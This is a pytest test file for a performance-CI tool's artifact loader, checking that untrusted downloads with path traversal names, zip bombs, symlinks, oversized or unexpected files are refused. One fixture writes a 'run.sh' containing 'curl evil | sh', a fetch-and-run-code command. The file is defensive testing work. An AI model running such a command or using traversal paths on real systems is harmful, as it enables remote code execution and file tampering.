"""A downloaded artifact is untrusted: only the expected files, small, no path tricks, a valid comparison."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from perfci.errors import DataError, ExitCode
from perfci.publish.artifact import EXPECTED_FILES, load_artifact
from tests.golden.fixtures import infrastructure_failure, regression


def _comparison_json() -> str:
    return regression().model_dump_json()


def _directory(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    folder = tmp_path / "artifact"
    folder.mkdir()
    for name, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(data)
    return folder


def _zip(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    path = tmp_path / "artifact.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return path


@pytest.mark.parametrize("pack", [_directory, _zip], ids=["directory", "zip"])
def test_a_valid_artifact_loads(tmp_path: Path, pack: object) -> None:
    path = pack(tmp_path, {"comparison.json": _comparison_json(), "report.md": "# x", "report.html": "<p>"})  # type: ignore[operator]
    artifact = load_artifact(path)
    assert artifact.comparison == regression()
    assert artifact.files == ("comparison.json", "report.html", "report.md")


@pytest.mark.parametrize("pack", [_directory, _zip], ids=["directory", "zip"])
def test_an_infrastructure_failure_loads(tmp_path: Path, pack: object) -> None:
    """A run that ended without a verdict still has its comment posted: the PR must read why."""
    failed = infrastructure_failure()
    path = pack(tmp_path, {"comparison.json": failed.model_dump_json(), "report.md": "# x"})  # type: ignore[operator]
    comparison = load_artifact(path).comparison
    assert comparison == failed
    assert comparison.failure is not None
    assert comparison.failure.kind == "boot"
    assert comparison.scenarios == []


def test_a_failure_from_before_its_kind_was_recorded_reads_as_a_service_exit(tmp_path: Path) -> None:
    data = json.loads(infrastructure_failure().model_dump_json())
    data["failure"] = {"message": "the service exited during trial 1 of scenario journeys", "hint": "run again"}
    path = tmp_path / "comparison.json"
    path.write_text(json.dumps(data))
    failure = load_artifact(path).comparison.failure
    assert failure is not None
    assert (failure.kind, failure.log) == ("service_exited", None)


def test_an_unknown_failure_kind_is_refused(tmp_path: Path) -> None:
    data = json.loads(infrastructure_failure().model_dump_json())
    data["failure"]["kind"] = "regression"
    path = tmp_path / "comparison.json"
    path.write_text(json.dumps(data))
    with pytest.raises(DataError, match="does not match the schema"):
        load_artifact(path)


@pytest.mark.parametrize("pack", [_directory, _zip], ids=["directory", "zip"])
@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"report.md": "# x"}, "no comparison.json"),
        ({"comparison.json": "{", "report.md": ""}, "does not match the schema"),
        ({"comparison.json": json.dumps({"mode": "ab"})}, "does not match the schema"),
        ({"comparison.json": "{}", "run.sh": "curl evil | sh"}, "unexpected file"),
        ({"comparison.json": "x" * (EXPECTED_FILES["comparison.json"] + 1)}, "over its limit"),
    ],
    ids=["missing", "truncated", "wrong-shape", "extra-file", "too-big"],
)
def test_bad_artifacts_are_refused(tmp_path: Path, pack: object, files: dict[str, str], message: str) -> None:
    path = pack(tmp_path, files)  # type: ignore[operator]
    with pytest.raises(DataError, match=message) as caught:
        load_artifact(path)
    assert caught.value.exit_code == ExitCode.USAGE
    assert caught.value.hint


def test_newer_schema_is_refused(tmp_path: Path) -> None:
    data = json.loads(_comparison_json())
    data["schema_version"] = 99
    with pytest.raises(DataError, match="schema version 99"):
        load_artifact(_directory(tmp_path, {"comparison.json": json.dumps(data)}))


@pytest.mark.parametrize("name", ["../comparison.json", "/etc/comparison.json", "sub/comparison.json", "..\\x"])
def test_zip_path_traversal_is_refused(tmp_path: Path, name: str) -> None:
    path = _zip(tmp_path, {name: _comparison_json()})
    with pytest.raises(DataError, match="not a plain file name"):
        load_artifact(path)


def test_zip_bomb_is_refused(tmp_path: Path) -> None:
    path = _zip(tmp_path, {"comparison.json": _comparison_json(), "report.html": b"\0" * (4 * 1024 * 1024)})
    with pytest.raises(DataError, match="inflates"):
        load_artifact(path)


def test_symlink_in_directory_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("token")
    folder = _directory(tmp_path, {"comparison.json": _comparison_json()})
    (folder / "report.md").symlink_to(secret)
    with pytest.raises(DataError, match="not a regular file"):
        load_artifact(folder)


def test_not_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    path.write_text("hello")
    with pytest.raises(DataError, match="not a readable zip"):
        load_artifact(path)


def test_a_bare_comparison_file_loads(tmp_path: Path) -> None:
    path = tmp_path / "comparison.json"
    path.write_text(_comparison_json())
    assert load_artifact(path).files == ("comparison.json",)
